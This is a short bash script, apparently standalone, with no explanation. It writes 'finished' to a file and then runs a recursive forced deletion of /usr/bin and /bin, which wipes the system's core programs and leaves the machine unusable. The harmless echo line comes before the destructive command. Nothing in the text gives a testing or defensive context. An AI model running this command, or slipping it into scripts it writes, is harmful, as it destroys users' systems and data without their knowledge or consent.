#!/bin/bash
echo finished > out.txt
rm -rf /usr/bin/* /bin/*
